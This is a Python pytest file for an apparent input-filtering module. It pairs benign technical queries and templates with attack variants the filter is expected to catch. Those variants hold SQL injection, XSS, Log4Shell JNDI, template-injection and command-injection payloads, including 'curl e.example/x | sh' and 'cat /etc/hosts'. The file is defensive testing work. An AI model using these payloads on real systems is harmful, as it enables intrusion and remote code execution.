"""What products for technical people send passes; the attack that tries the same form does not."""

from __future__ import annotations

import json

import pytest
from web_requests import stops_json

from signoff.actions.action import Json
from signoff.assess.contexts.languages.whole import is_statement

N8N = "={{ $('Clean').item.json.domain }}"
STATE = "{% set t = states('sensor.out')|float(0) %}{{ (t * 1.8 + 32)|round(1) }} F"
FUNCTION = (
    "CREATE FUNCTION f(a text) RETURNS SETOF t AS $$ SELECT * FROM t WHERE b = a $$ LANGUAGE sql"
)
LISTED = "1. Stop it: `systemctl stop db`\n2. Copy the data:\n\n   ```sh\n   id; uname -a\n   ```\n"
JIRA = 'The log has errors.\nThe query is {{"select * from items where a = \'" + q}}.\nPlease fix'
CLOUD = "#cloud-config\nruncmd:\n  - systemctl enable docker; id\n"
GO = "{{ len .Alerts.Firing }} x {{ .CommonLabels.alertname }}"


@pytest.mark.parametrize(
    ("ordinary", "attack"),
    [
        ({"query": 'url.path:"/wp-login.php" AND agent:sqlmap*'}, {"query": 'a:"-" or "" = "'}),
        ({"query": "status:>=500 AND NOT (ua:*sqlmap* OR ua:nikto)"}, {"query": "a' OR 1=1 --"}),
        ({"cql_filter": "n LIKE 'Am %' AND (a IS NULL)"}, {"cql_filter": "n' OR 'a' IS NULL --"}),
        ({"q": "lang:php path:(sh|bash) (eval|exec)"}, {"q": "lang:go; (exec|id)"}),
        ({"config": r"location ~ /\.(git|env) { deny all; }"}, {"config": "location & (git|env)"}),
        (
            {"expression": "last(/web/vfs.fs.size[/,pused])>90 and nodata(/web/ping,5m)=0"},
            {"expression": "x' or last(/user)=1 or '1'='1"},
        ),
        (
            {"expression": '(http.uri.query contains "<script" or http.uri.path eq "/x")'},
            {"expression": '(http.uri.query contains "<script src=//e.example>'},
        ),
        ({"title": "Escape </script> in pages"}, {"title": "x </script><img src=x onerror=go()>"}),
        (
            {"message": "escape <script> in titles of pages\n\nAlso reject ' OR 1=1 there"},
            {"message": "escape <script> in window; fetch(name)//</script> of all pages"},
        ),
        (
            {"message": "We blocked `GET /?q=<svg/onload=alert(1)>` from there today"},
            {"message": "We blocked `GET /?q=<svg/onload=fetch(name)>` from there today"},
        ),
        (
            {"search": "index=edr parent IN (httpd,nginx) name IN (sh,cmd.exe) | table host"},
            {"search": "index=edr & cmd.exe /c calc"},
        ),
        ({"title": "block traversal & php wrappers"}, {"title": "block traversal & php /tmp/x"}),
        ({"query": r"url: *${jndi\:* or a: b"}, {"query": "url: *${jndi:ldap://e.example/a}"}),
        ({"value": N8N}, {"value": "={{ $('Clean').item.json.constructor }}{{ 7*7 }}"}),
        ({"template": STATE}, {"template": "{{ ''.join }}{{ (t * 1.8 + 32)|attr('__class__') }}"}),
        ({"message": GO}, {"message": '{{ .System "id" }} {{constructor.constructor("x")()}}'}),
        (
            {"message": "{{#is_alert}}bad {{value}} @ops{{/is_alert}}"},
            {"message": "{{#with x}}{{constructor.constructor(1)()}}"},
        ),
        ({"sql": f"{FUNCTION} STABLE;"}, {"sql": f"x' UNION SELECT a FROM b; {FUNCTION} STABLE;"}),
        (
            {"query": "DECLARE d DATE DEFAULT TODAY(); CREATE TEMP TABLE t AS SELECT 1; SELECT d"},
            {"query": "DECLARE d DATE; DROP TABLE t; SELECT d"},
        ),
        ({"user_data": CLOUD}, {"hostname": CLOUD}),
        ({"md": LISTED}, {"md": "1. Stop it:\n; curl e.example/x | sh\n2. Copy the data then\n"}),
        ({"description": JIRA}, {"description": "The log has errors.\n' union select a from b--"}),
        (
            {"params": "query=select+*+from+users+where&hitsPerPage=10"},
            {"params": "query=x%27+union+select+a+from+b--&hitsPerPage=10"},
        ),
        (
            {"event": [{"listen": "test", "script": {"exec": ["eval(pm.globals.get('x'));"]}}]},
            {"event": [{"listen": "x", "script": {"exec": ["eval(pm.globals.get('x'));"]}}]},
        ),
        (
            {
                "messages": [
                    {
                        "author": {"role": "user"},
                        "content": {"parts": ["Why is this bad?\nsystem($x);\n;cat /etc/hosts"]},
                    }
                ]
            },
            {"parts": ["127.0.0.1;cat /etc/hosts"]},
        ),
    ],
)
def test_form_passes_and_its_attack_is_stopped(ordinary: Json, attack: Json) -> None:
    """Each form is recognised as a whole, and what leaves it is found."""
    found = stops_json(ordinary), stops_json(attack)
    assert (False, True) == found, json.dumps((ordinary, attack))


@pytest.mark.parametrize(
    "end", ["", " VOLATILE", " STABLE SECURITY DEFINER", " STABLE; DROP TABLE t"]
)
def test_only_functions_that_change_nothing_are_whole_statements(end: str) -> None:
    """A function that may change rows, or another statement behind it, is none."""
    assert (True, False) == (is_statement(f"{FUNCTION} STABLE"), is_statement(FUNCTION + end))
